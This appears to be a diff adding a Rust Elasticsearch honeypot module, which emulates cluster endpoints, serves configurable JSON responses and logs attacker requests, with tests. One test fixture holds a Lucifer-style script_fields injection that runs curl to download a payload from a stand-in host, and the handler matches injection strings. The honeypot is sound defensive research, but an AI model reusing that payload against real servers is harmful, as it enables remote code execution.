@@ -1,0 +1,474 @@
+//! Medium-interaction Elasticsearch honeypot (Elasticpot-style).
+//!
+//! "Replicates a vulnerable Elasticsearch server accessible over the
+//! internet. Its response to queries can be extensively customized through
+//! .json files" (§4.1). Authentication is disabled and anyone can issue
+//! commands through the emulated HTTP API — the configuration of §4.2.
+//!
+//! The response book is JSON-configurable: exact-path and prefix rules plus
+//! built-in defaults for the endpoints institutional scanners and the
+//! Lucifer campaign hit (`/`, `/_nodes`, `/_cluster/health`, `/_cat/indices`,
+//! `/_search` including `script_fields` payloads).
+
+use crate::logging::SessionLogger;
+use crate::low::read_or_fault;
+use decoy_net::codec::Framed;
+use decoy_net::error::NetResult;
+use decoy_net::proxy;
+use decoy_net::server::{SessionCtx, SessionHandler};
+use decoy_store::{EventStore, HoneypotId};
+use decoy_wire::http::{HttpRequest, HttpResponse, HttpServerCodec};
+use serde_json::{json, Value};
+use std::sync::Arc;
+use tokio::net::TcpStream;
+
+/// A customization rule: method (or `*`), path match, response.
+#[derive(Debug, Clone)]
+pub struct ResponseRule {
+    /// HTTP method or `*`.
+    pub method: String,
+    /// Exact path, or a prefix when it ends with `*`.
+    pub path: String,
+    /// Status code to answer.
+    pub status: u16,
+    /// JSON body to answer.
+    pub body: Value,
+}
+
+impl ResponseRule {
+    fn matches(&self, req: &HttpRequest) -> bool {
+        let method_ok = self.method == "*" || self.method.eq_ignore_ascii_case(&req.method);
+        let path = req.path();
+        let path_ok = match self.path.strip_suffix('*') {
+            Some(prefix) => path.starts_with(prefix),
+            None => path == self.path,
+        };
+        method_ok && path_ok
+    }
+}
+
+/// The JSON-driven response configuration.
+#[derive(Debug, Clone, Default)]
+pub struct ResponseBook {
+    rules: Vec<ResponseRule>,
+}
+
+impl ResponseBook {
+    /// Empty book: only built-in defaults answer.
+    pub fn new() -> Self {
+        ResponseBook::default()
+    }
+
+    /// Add a rule (first match wins, before defaults).
+    pub fn with_rule(
+        mut self,
+        method: &str,
+        path: &str,
+        status: u16,
+        body: Value,
+    ) -> Self {
+        self.rules.push(ResponseRule {
+            method: method.to_string(),
+            path: path.to_string(),
+            status,
+            body,
+        });
+        self
+    }
+
+    /// Parse rules from the Elasticpot-style JSON configuration format:
+    /// `[{"method":"GET","path":"/_cat/indices","status":200,"body":{...}}]`.
+    pub fn from_json(text: &str) -> Result<Self, serde_json::Error> {
+        let raw: Vec<Value> = serde_json::from_str(text)?;
+        let mut book = ResponseBook::new();
+        for entry in raw {
+            book.rules.push(ResponseRule {
+                method: entry
+                    .get("method")
+                    .and_then(Value::as_str)
+                    .unwrap_or("*")
+                    .to_string(),
+                path: entry
+                    .get("path")
+                    .and_then(Value::as_str)
+                    .unwrap_or("/")
+                    .to_string(),
+                status: entry.get("status").and_then(Value::as_u64).unwrap_or(200) as u16,
+                body: entry.get("body").cloned().unwrap_or(Value::Null),
+            });
+        }
+        Ok(book)
+    }
+
+    fn lookup(&self, req: &HttpRequest) -> Option<&ResponseRule> {
+        self.rules.iter().find(|r| r.matches(req))
+    }
+}
+
+/// The medium-interaction Elasticsearch honeypot.
+pub struct ElasticPot {
+    store: Arc<EventStore>,
+    id: HoneypotId,
+    book: ResponseBook,
+    cluster_name: String,
+}
+
+impl ElasticPot {
+    /// Default configuration.
+    pub fn new(store: Arc<EventStore>, id: HoneypotId) -> Arc<Self> {
+        Self::with_book(store, id, ResponseBook::new())
+    }
+
+    /// With a customized response book.
+    pub fn with_book(store: Arc<EventStore>, id: HoneypotId, book: ResponseBook) -> Arc<Self> {
+        Arc::new(ElasticPot {
+            store,
+            id,
+            book,
+            cluster_name: "elasticsearch".into(),
+        })
+    }
+
+    fn respond(&self, req: &HttpRequest) -> HttpResponse {
+        if let Some(rule) = self.book.lookup(req) {
+            return HttpResponse::json(rule.status, rule.body.to_string());
+        }
+        let path = req.path().to_string();
+        let body_text = req.body_text();
+        match (req.method.as_str(), path.as_str()) {
+            (_, "/") => HttpResponse::json(
+                200,
+                json!({
+                    "name": "node-1",
+                    "cluster_name": self.cluster_name,
+                    "cluster_uuid": "Hl0H4cyrSseJp5pYrMio5g",
+                    "version": {
+                        "number": "5.6.16",
+                        "build_hash": "3a740d1",
+                        "lucene_version": "6.6.1"
+                    },
+                    "tagline": "You Know, for Search"
+                })
+                .to_string(),
+            ),
+            ("GET", "/_cluster/health") => HttpResponse::json(
+                200,
+                json!({
+                    "cluster_name": self.cluster_name,
+                    "status": "yellow",
+                    "number_of_nodes": 1,
+                    "number_of_data_nodes": 1,
+                    "active_primary_shards": 5,
+                    "active_shards": 5,
+                    "unassigned_shards": 5
+                })
+                .to_string(),
+            ),
+            ("GET", "/_nodes") | ("GET", "/_nodes/stats") => HttpResponse::json(
+                200,
+                json!({
+                    "_nodes": {"total": 1, "successful": 1},
+                    "cluster_name": self.cluster_name,
+                    "nodes": {
+                        "x1CefFEJTIyBV2uxjLUYdw": {
+                            "name": "node-1",
+                            "host": "172.17.0.2",
+                            "version": "5.6.16",
+                            "os": {"name": "Linux", "arch": "amd64"}
+                        }
+                    }
+                })
+                .to_string(),
+            ),
+            ("GET", "/_cat/indices") => HttpResponse::json(
+                200,
+                "yellow open customers R3PpbEzJQ1y 5 1 1284 0 1.1mb 1.1mb\n\
+                 yellow open orders    mJ9qXc2WQm1 5 1 5411 0 4.0mb 4.0mb\n",
+            ),
+            (_, p) if p.ends_with("/_search") || p == "/_search" => {
+                self.search_response(&body_text, req)
+            }
+            ("PUT" | "POST", p) if p.contains("/_doc") => HttpResponse::json(
+                201,
+                json!({
+                    "_index": p.split('/').nth(1).unwrap_or("idx"),
+                    "_type": "_doc",
+                    "_id": "AV8KXxYcZ1",
+                    "result": "created",
+                    "_shards": {"total": 2, "successful": 1, "failed": 0}
+                })
+                .to_string(),
+            ),
+            ("DELETE", _) => HttpResponse::json(200, json!({"acknowledged": true}).to_string()),
+            _ => HttpResponse::json(
+                404,
+                json!({
+                    "error": {
+                        "root_cause": [{"type": "index_not_found_exception", "reason": "no such index"}],
+                        "type": "index_not_found_exception",
+                        "reason": "no such index"
+                    },
+                    "status": 404
+                })
+                .to_string(),
+            ),
+        }
+    }
+
+    fn search_response(&self, body: &str, req: &HttpRequest) -> HttpResponse {
+        // Lucifer (Listing 5) smuggles Java in `script_fields` via the URL's
+        // source parameter; either way the body/query reaches us as text.
+        let combined = format!("{} {}", req.target, body);
+        let scripted = combined.contains("script_fields") || combined.contains("Runtime.getRuntime");
+        let hits = if scripted {
+            // a vulnerable 1.x/5.x cluster would attempt the script; ours
+            // answers a plausible empty evaluation
+            json!([{"_index": "customers", "_id": "1", "_score": 1.0, "fields": {"exp": [""]}}])
+        } else {
+            json!([{
+                "_index": "customers",
+                "_id": "1",
+                "_score": 1.0,
+                "_source": {"name": "James Smith", "card": "4111111111111111"}
+            }])
+        };
+        HttpResponse::json(
+            200,
+            json!({
+                "took": 3,
+                "timed_out": false,
+                "_shards": {"total": 5, "successful": 5, "failed": 0},
+                "hits": {"total": 1, "max_score": 1.0, "hits": hits}
+            })
+            .to_string(),
+        )
+    }
+}
+
+impl SessionHandler for ElasticPot {
+    async fn handle(self: Arc<Self>, mut stream: TcpStream, ctx: SessionCtx) {
+        let (proxied, initial) = match proxy::maybe_read_v1(&mut stream).await {
+            Ok(pair) => pair,
+            Err(_) => return,
+        };
+        let log = SessionLogger::new(
+            self.store.clone(),
+            self.id,
+            ctx,
+            proxied.map(|sa| sa.ip()),
+        );
+        log.connect();
+        if let Err(e) = self.session(stream, initial, &log).await {
+            if e.is_peer_fault() {
+                log.malformed(e.to_string());
+            }
+        }
+        log.disconnect();
+    }
+}
+
+impl ElasticPot {
+    async fn session(
+        &self,
+        stream: TcpStream,
+        initial: bytes::BytesMut,
+        log: &SessionLogger,
+    ) -> NetResult<()> {
+        let mut framed = Framed::with_initial(stream, HttpServerCodec, initial);
+        loop {
+            let req = read_or_fault!(framed, log);
+            // Render the way Elasticpot logs: METHOD + target (+ body).
+            let rendered = if req.body.is_empty() {
+                format!("{} {}", req.method, req.target)
+            } else {
+                format!("{} {} {}", req.method, req.target, req.body_text())
+            };
+            log.command(&rendered);
+            if decoy_wire::foreign::recognize(&req.body).is_some()
+                || decoy_wire::foreign::recognize(req.target.as_bytes()).is_some()
+            {
+                log.payload(&[req.target.as_bytes(), b" ", &req.body].concat());
+            }
+            let resp = self.respond(&req);
+            framed.write_frame(&resp).await?;
+            let close = req
+                .header("connection")
+                .map(|v| v.eq_ignore_ascii_case("close"))
+                .unwrap_or(false);
+            if close {
+                return Ok(());
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use decoy_net::server::{Listener, ListenerOptions, ServerHandle};
+    use decoy_net::time::Clock;
+    use decoy_store::{ConfigVariant, Dbms, EventKind, InteractionLevel};
+    use decoy_wire::http::HttpClientCodec;
+
+    async fn spawn(book: ResponseBook) -> (ServerHandle, Arc<EventStore>) {
+        let store = EventStore::new();
+        let id = HoneypotId::new(
+            Dbms::Elastic,
+            InteractionLevel::Medium,
+            ConfigVariant::Default,
+            0,
+        );
+        let hp = ElasticPot::with_book(store.clone(), id, book);
+        let server = Listener::bind(
+            "127.0.0.1:0".parse().unwrap(),
+            hp,
+            ListenerOptions {
+                max_sessions: 64,
+                clock: Clock::simulated(),
+            },
+        )
+        .await
+        .unwrap();
+        (server, store)
+    }
+
+    async fn request(
+        f: &mut Framed<TcpStream, HttpClientCodec>,
+        req: HttpRequest,
+    ) -> HttpResponse {
+        f.write_frame(&req).await.unwrap();
+        f.read_frame().await.unwrap().unwrap()
+    }
+
+    #[tokio::test]
+    async fn banner_and_cluster_endpoints() {
+        let (server, store) = spawn(ResponseBook::new()).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, HttpClientCodec);
+        let banner = request(&mut f, HttpRequest::new("GET", "/")).await;
+        assert_eq!(banner.status, 200);
+        let v: Value = serde_json::from_slice(&banner.body).unwrap();
+        assert_eq!(v["tagline"], "You Know, for Search");
+        let health = request(&mut f, HttpRequest::new("GET", "/_cluster/health")).await;
+        let v: Value = serde_json::from_slice(&health.body).unwrap();
+        assert_eq!(v["status"], "yellow");
+        let nodes = request(&mut f, HttpRequest::new("GET", "/_nodes")).await;
+        assert_eq!(nodes.status, 200);
+        server.shutdown().await;
+        assert_eq!(
+            store
+                .filter(|e| matches!(e.kind, EventKind::Command { .. }))
+                .len(),
+            3
+        );
+    }
+
+    #[tokio::test]
+    async fn custom_rules_override_defaults() {
+        let book = ResponseBook::new().with_rule(
+            "GET",
+            "/_cat/indices",
+            200,
+            json!({"custom": true}),
+        );
+        let (server, _store) = spawn(book).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, HttpClientCodec);
+        let resp = request(&mut f, HttpRequest::new("GET", "/_cat/indices")).await;
+        let v: Value = serde_json::from_slice(&resp.body).unwrap();
+        assert_eq!(v["custom"], true);
+        server.shutdown().await;
+    }
+
+    #[test]
+    fn response_book_from_json() {
+        let book = ResponseBook::from_json(
+            r#"[{"method":"GET","path":"/secret*","status":403,"body":{"denied":true}}]"#,
+        )
+        .unwrap();
+        let req = HttpRequest::new("GET", "/secret/files");
+        let rule = book.lookup(&req).unwrap();
+        assert_eq!(rule.status, 403);
+        assert!(book.lookup(&HttpRequest::new("GET", "/open")).is_none());
+        assert!(ResponseBook::from_json("not json").is_err());
+    }
+
+    #[tokio::test]
+    async fn lucifer_script_injection_is_logged_and_answered() {
+        // Listing 5: /_search?source={... script_fields ... Runtime.getRuntime ...}
+        let (server, store) = spawn(ResponseBook::new()).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, HttpClientCodec);
+        let body = r#"{"query":{"filtered":{"query":{"match_all":{}}}},"script_fields":{"exp":{"script":"import java.util.*; Runtime.getRuntime().exec(\"curl -o /tmp/sss6 http://198.51.100.8:9999/sss6\")"}}}"#;
+        let resp = request(
+            &mut f,
+            HttpRequest::new("POST", "/_search").with_body("application/json", body),
+        )
+        .await;
+        assert_eq!(resp.status, 200);
+        let v: Value = serde_json::from_slice(&resp.body).unwrap();
+        assert_eq!(v["timed_out"], false);
+        server.shutdown().await;
+        let cmds = store.filter(|e| {
+            matches!(&e.kind, EventKind::Command { raw, .. } if raw.contains("script_fields"))
+        });
+        assert_eq!(cmds.len(), 1);
+        // masked action hides the loader address
+        let EventKind::Command { action, .. } = &cmds[0].kind else {
+            unreachable!()
+        };
+        assert!(action.contains("http://<IP>/sss6"), "{action}");
+    }
+
+    #[tokio::test]
+    async fn craftcms_probe_is_recognized() {
+        let (server, store) = spawn(ResponseBook::new()).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, HttpClientCodec);
+        let body = decoy_wire::foreign::craftcms_probe_body();
+        let resp = request(
+            &mut f,
+            HttpRequest::new("POST", "/index.php")
+                .with_body("application/x-www-form-urlencoded", body),
+        )
+        .await;
+        // no Craft CMS here: invalid-for-ES syntax yields the 404 error json
+        assert_eq!(resp.status, 404);
+        server.shutdown().await;
+        let payloads = store.filter(|e| {
+            matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "craftcms-probe")
+        });
+        assert_eq!(payloads.len(), 1);
+    }
+
+    #[tokio::test]
+    async fn document_insert_pretends_to_succeed() {
+        let (server, _store) = spawn(ResponseBook::new()).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, HttpClientCodec);
+        let resp = request(
+            &mut f,
+            HttpRequest::new("POST", "/pwned/_doc")
+                .with_body("application/json", r#"{"ransom":"pay up"}"#),
+        )
+        .await;
+        assert_eq!(resp.status, 201);
+        let v: Value = serde_json::from_slice(&resp.body).unwrap();
+        assert_eq!(v["result"], "created");
+        server.shutdown().await;
+    }
+
+    #[tokio::test]
+    async fn connection_close_header_is_honored() {
+        let (server, _store) = spawn(ResponseBook::new()).await;
+        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
+        let mut f = Framed::new(stream, HttpClientCodec);
+        let mut req = HttpRequest::new("GET", "/");
+        req.headers.push(("Connection".into(), "close".into()));
+        let resp = request(&mut f, req).await;
+        assert_eq!(resp.status, 200);
+        // server closes; next read yields clean EOF
+        assert!(f.read_frame().await.unwrap().is_none());
+        server.shutdown().await;
+    }
+}
